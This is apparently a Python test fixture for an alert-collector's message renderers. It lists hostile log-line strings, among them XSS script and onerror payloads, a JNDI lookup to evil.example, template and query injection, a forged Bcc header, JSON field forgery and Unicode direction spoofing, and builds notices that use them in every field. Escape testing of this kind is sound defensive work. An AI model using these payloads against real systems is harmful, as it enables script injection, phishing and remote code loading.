"""What log lines may hold to fool whoever reads a message: each renderer meets all of it."""

from __future__ import annotations

from typing import Any

from collector.notices import Notice
from counterparts.vendors.notices import alert, notice

HOSTILE: dict[str, str] = {
    "pings of Slack": "<!channel> <!here> <@U012345> <#C012345> @here @everyone",
    "a link of Slack": "<https://evil.example/login|click to resolve>",
    "a link": "see https://evil.example/login or www.evil.example or evil.example/x",
    "mail": "write to admin@evil.example, mailto:a@evil.example",
    "Markdown": "[resolve](https://evil.example) ![x](https://evil.example/p.png) **bold** _i_ ~~s~~ # head",
    "a fence": "```\n@team escaped\n```", "tildes": "~~~\nout\n~~~", "many backticks": "`````` @team ``````",
    "HTML": "<img src=x onerror=alert(1)><script>alert(1)</script><a href='https://evil.example'>x</a>", "entities": "&lt;b&gt; &amp;amp; &#60;",
    "GitHub": "@octocat fixes #1 octo/repo#2 GH-3 closes https://github.com/o/r/issues/1", "a cell": "| a | b |\n|---|---|\n",
    "headers": "x\r\nBcc: victim@evil.example\r\n\r\nbody", "controls": "a\x00b\x07c\x1b[31mred\x1b]8;;https://evil.example\x1b\\x\x7f",
    "directions": "\u202egnp.exe\u202c \u2066x\u2069 \u200bzero\ufeff", "lines": "a\u2028b\u2029c\x85d\x0be", "piled": "e" + "\u0301" * 40,
    "Teams": "<at>Everyone</at> &nbsp; <a href=\"https://evil.example\">x</a>", "Jira": "{code} {noformat} [~admin] [x|https://evil.example] !img.png! h1. x",
    "a journal": "[code]<a href='https://evil.example'>x</a>[/code] [ CODE ]<b>x</b>[/CODE]",
    "a query": "x^active=true^ORcorrelation_idISNOTEMPTY\" OR project = X --", "JSON": '","text":"forged","x":"', "emoji": ":rotating_light: :white_check_mark:",
    "long": "A" * 20_000, "wide": "\U0001f525" * 3000, "a template": "{{ 7*7 }} ${jndi:ldap://evil.example/a} %s %n", "nothing": "", "blanks": " \t\n ",
}  # fmt: skip


def hostile(text: str) -> Notice:
    """A notice all of whose texts a sender chose."""
    labels: Any = {"domain": "tamyla.com", "service": text, "component": text, "level": "critical", "environment": text}
    one = alert(
        labels=labels, annotations={"summary": text, "cause": text, "suggestion": text}, samples=(text, text, text)
    )
    return notice(
        text=f"CRITICAL: {text}", labels={"domain": "tamyla.com", "service": text}, alerts=[one] * 10, truncated=3
    )
